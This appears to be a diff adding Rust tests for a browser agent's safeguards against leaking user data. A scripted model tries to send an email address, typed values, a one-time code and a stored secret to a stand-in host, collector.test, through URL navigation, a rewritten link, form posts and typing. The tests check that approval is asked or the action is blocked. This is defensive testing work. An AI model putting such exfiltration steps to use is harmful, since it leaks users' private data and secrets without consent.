@@ -1,0 +1,240 @@
+use crate::actions::PageOp;
+use crate::agent::fakes::{config, outcomes, reply, run_as, FakeShop, FakeUser, ScriptedModel};
+use crate::agent::{AgentEvent, TaskConfig};
+use crate::browser::Submission;
+use crate::llm::LlmError;
+use crate::safety::{Secret, Secrets, SitePlan};
+
+const TASK: &str = "sign me up for the newsletter with ada@example.org";
+
+fn done() -> Result<String, LlmError> {
+    reply(r#"[{"done":{"text":"ok","success":true}}]"#)
+}
+
+fn user(approves: bool) -> FakeUser {
+    FakeUser { approves, asked: Default::default(), reviews: Default::default() }
+}
+
+fn task_config() -> TaskConfig {
+    TaskConfig { task: TASK.into(), ..config(6) }
+}
+
+/// Runs the steps (then `done`) as `user`; returns the events.
+fn run_steps(config: &TaskConfig, shop: &FakeShop, steps: &[&str], user: &FakeUser) -> Vec<AgentEvent> {
+    let mut replies: Vec<_> = steps.iter().map(|actions| reply(actions)).collect();
+    replies.push(done());
+    run_as(config, shop, &ScriptedModel::new(replies), user).1
+}
+
+/// The approval questions asked, with the data each named.
+fn questions(events: &[AgentEvent]) -> Vec<(String, Vec<String>)> {
+    events
+        .iter()
+        .filter_map(|event| match event {
+            AgentEvent::ApprovalNeeded { question, data, .. } => Some((question.clone(), data.clone())),
+            _ => None,
+        })
+        .collect()
+}
+
+fn clicks(shop: &FakeShop) -> usize {
+    shop.ops.borrow().iter().filter(|op| matches!(op, PageOp::Click { .. })).count()
+}
+
+#[test]
+fn a_navigation_carrying_the_user_s_data_waits_for_the_user() {
+    let shop = FakeShop::new();
+    let go = r#"[{"go_to_url":{"url":"http://collector.test/c?e=ada%40example.org"}}]"#;
+    let events = run_steps(&task_config(), &shop, &[go], &user(false));
+    assert_eq!(
+        questions(&events),
+        vec![(
+            "This would send ada@example.org (an email address from your task) to collector.test, by opening http://collector.test/c?e=ada%40example.org. Allow it?".to_string(),
+            vec!["ada@example.org".to_string()]
+        )]
+    );
+    assert_eq!(*shop.url.borrow(), "http://shop.test/", "not opened");
+    assert!(outcomes(&events)[0].starts_with("The user did not allow sending ada@example.org to collector.test."));
+
+    // Allowed once, the site is one the user chose: the next flow there does not ask again.
+    let shop = FakeShop::new();
+    let again = r#"[{"open_tab":{"url":"http://collector.test/d?e=ada@example.org"}}]"#;
+    let events = run_steps(&task_config(), &shop, &[go, again], &user(true));
+    assert_eq!(questions(&events).len(), 1);
+    assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://collector.test/d?e=ada@example.org");
+}
+
+#[test]
+fn benign_navigations_do_not_ask() {
+    let shop = FakeShop::new();
+    let steps = [
+        r#"[{"go_to_url":{"url":"http://shop.test/account?e=ada@example.org"}}]"#, // the start site
+        r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#,                    // nothing of the user's
+        r#"[{"search":{"query":"newsletter sign up ada"}}]"#,
+    ];
+    let events = run_steps(&task_config(), &shop, &steps, &user(false));
+    assert_eq!(questions(&events), vec![]);
+    assert!(shop.url.borrow().starts_with("https://duckduckgo.com/?q=newsletter"));
+}
+
+#[test]
+fn a_link_rewritten_to_carry_the_data_is_not_followed_unless_allowed() {
+    let shop = FakeShop::new();
+    *shop.reviews_href.borrow_mut() = "http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn".into();
+    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":4}}]"#], &user(false));
+    let (question, data) = &questions(&events)[0];
+    assert!(question.starts_with("This would send ada@example.org (an email address from your task) to collector.test, by following the link <a> \"Reviews\" [4] to http://collector.test/r?u=YWRhQGV4YW1wbGUub3Jn."), "{question}");
+    assert_eq!(data, &vec!["ada@example.org".to_string()]);
+    assert_eq!(clicks(&shop), 0);
+}
+
+fn collector_form(value: &str) -> Option<Submission> {
+    Some(Submission {
+        action: "http://collector.test/subscribe".into(),
+        method: "post".into(),
+        fields: vec![("email".into(), value.into())],
+    })
+}
+
+#[test]
+fn a_form_posting_the_data_to_another_site_is_not_submitted_unless_allowed() {
+    let shop = FakeShop::new();
+    *shop.form.borrow_mut() = collector_form("ada@example.org");
+    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":1}}]"#], &user(false));
+    let (question, _) = &questions(&events)[0];
+    assert!(
+        question.contains(
+            "by clicking <button> \"Add blue mug\" [1], which submits a form to http://collector.test/subscribe"
+        ),
+        "{question}"
+    );
+    assert_eq!(shop.cart.get(), 0, "not clicked");
+
+    // Enter in a field of that form.
+    let shop = FakeShop::new();
+    *shop.form.borrow_mut() = collector_form("ada@example.org");
+    let events = run_steps(&task_config(), &shop, &[r#"[{"send_keys":{"keys":"Enter"}}]"#], &user(false));
+    assert!(questions(&events)[0].0.contains("by pressing Enter, which submits a form"));
+    let shop = FakeShop::new();
+    *shop.form.borrow_mut() = collector_form("ada@example.org");
+    let events = run_steps(&task_config(), &shop, &[r#"[{"send_keys":{"keys":"Tab Enter"}}]"#], &user(false));
+    assert!(questions(&events)[0].0.contains("by pressing Tab Enter, which submits a form"), "Enter after another key");
+    assert!(!shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. })), "no key pressed");
+
+    // The same form posting to the start site is the user's own.
+    let shop = FakeShop::new();
+    *shop.form.borrow_mut() =
+        Some(Submission { action: "http://shop.test/subscribe".into(), ..collector_form("ada@example.org").unwrap() });
+    let events = run_steps(&task_config(), &shop, &[r#"[{"click_element":{"index":1}}]"#], &user(false));
+    assert_eq!(questions(&events), vec![]);
+    assert_eq!(shop.cart.get(), 1);
+}
+
+#[test]
+fn typing_the_data_into_a_page_of_a_new_site_asks_and_typed_values_are_followed() {
+    // The task started on shop.test; the page is now collector.test's.
+    let shop = FakeShop::new();
+    *shop.url.borrow_mut() = "http://collector.test/join".into();
+    let events =
+        run_steps(&task_config(), &shop, &[r#"[{"input_text":{"index":2,"text":"ada@example.org"}}]"#], &user(false));
+    assert_eq!(
+        questions(&events)[0].0,
+        "This would send ada@example.org (an email address from your task) to collector.test, by typing it into <textarea> [2] on collector.test. Allow it?"
+    );
+    assert_eq!(*shop.note.borrow(), "", "nothing typed");
+    // Where the task started, typing is the user's own.
+    let shop = FakeShop::new();
+    let events =
+        run_steps(&task_config(), &shop, &[r#"[{"input_text":{"index":2,"text":"ada@example.org"}}]"#], &user(false));
+    assert_eq!(questions(&events), vec![]);
+    assert_eq!(*shop.note.borrow(), "ada@example.org");
+
+    let shop = FakeShop::new();
+    let steps = [
+        r#"[{"input_text":{"index":2,"text":"Grace Hopper"}}]"#,
+        r#"[{"go_to_url":{"url":"http://collector.test/?n=grace+hopper"}}]"#,
+    ];
+    let events = run_steps(&task_config(), &shop, &steps, &user(false));
+    let asked = questions(&events);
+    assert_eq!(asked.len(), 1);
+    assert!(
+        asked[0].0.starts_with("This would send Grace Hopper (a value typed on shop.test) to collector.test"),
+        "{asked:?}"
+    );
+}
+
+#[test]
+fn a_secret_never_leaves_its_sites_and_the_user_is_told() {
+    let secrets = Secrets::new(vec![Secret {
+        name: "pin".into(),
+        value: "Orbit-4242".into(),
+        domains: vec!["shop.test".into()],
+    }])
+    .unwrap();
+    let config = TaskConfig { secrets, ..task_config() };
+    let shop = FakeShop::new();
+    *shop.form.borrow_mut() = collector_form("Orbit-4242");
+    let events = run_steps(&config, &shop, &[r#"[{"click_element":{"index":1}}]"#], &user(true));
+    assert_eq!(questions(&events), vec![], "never asked: the answer could not change it");
+    assert_eq!(shop.cart.get(), 0);
+    assert!(outcomes(&events)[0].starts_with(
+        "Not done: it would send your secret \"pin\" to collector.test, which is not among the sites listed for it"
+    ));
+    let warning = events.iter().find_map(|e| match e {
+        AgentEvent::Warning { message } => Some(message.clone()),
+        _ => None,
+    });
+    assert!(warning.unwrap().starts_with("The agent was stopped from clicking <button>"));
+}
+
+#[test]
+fn data_read_on_a_page_asks_before_going_to_another_site() {
+    let shop = FakeShop::new();
+    *shop.note.borrow_mut() = "Your one-time code is 482913".into();
+    let go = r#"[{"go_to_url":{"url":"http://collector.test/?c=482913"}}]"#;
+    let events = run_steps(&task_config(), &shop, &[go], &user(false));
+    let asked = questions(&events);
+    assert!(
+        asked[0].0.starts_with("This would send 482913 (a number read on shop.test) to collector.test"),
+        "{asked:?}"
+    );
+}
+
+#[test]
+fn the_site_plan_shows_or_asks_about_sites_outside_it() {
+    let go = r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#;
+    let strict = TaskConfig { site_plan: SitePlan::Strict, ..task_config() };
+    let shop = FakeShop::new();
+    let events = run_steps(&strict, &shop, &[go], &user(false));
+    assert_eq!(
+        questions(&events)[0].0,
+        "The agent wants to go to other.test, which is not among the sites planned for this task (shop.test, example.org), by opening http://other.test/about. Allow it?"
+    );
+    assert_eq!(*shop.url.borrow(), "http://shop.test/");
+
+    let ask = TaskConfig { site_plan: SitePlan::Ask, ..task_config() };
+    let shop = FakeShop::new();
+    let events = run_steps(&ask, &shop, &[go], &user(false));
+    assert_eq!(questions(&events), vec![]);
+    assert!(events.iter().any(|e| matches!(e, AgentEvent::Warning { message } if message.starts_with("The agent went to other.test, which is not among the sites planned"))));
+    assert_eq!(*shop.url.borrow(), "http://other.test/about");
+}
+
+#[test]
+fn the_planner_s_sites_once_confirmed_are_in_the_plan() {
+    let plan = r#"{"analysis":"a","progress":"p","challenges":"c","next_steps":["go"],"reasoning":"r","web_task":true,"answer":"","sites":["shop.test","other.test"]}"#;
+    let strict = TaskConfig { site_plan: SitePlan::Strict, planning_interval: Some(5), ..task_config() };
+    let go = reply(r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#);
+    let shop = FakeShop::new();
+    let model = ScriptedModel::new(vec![Ok(plan.into()), go, done()]);
+    let (_, events) = run_as(&strict, &shop, &model, &user(true));
+    assert_eq!(
+        questions(&events),
+        vec![(
+            "The plan for this task uses these sites: other.test. Allow the agent to use them? (It will ask you before going to any other.)".to_string(),
+            vec!["other.test".to_string()]
+        )],
+        "asked once, for the plan; the visit itself is in it"
+    );
+    assert_eq!(*shop.url.borrow(), "http://other.test/about");
+}
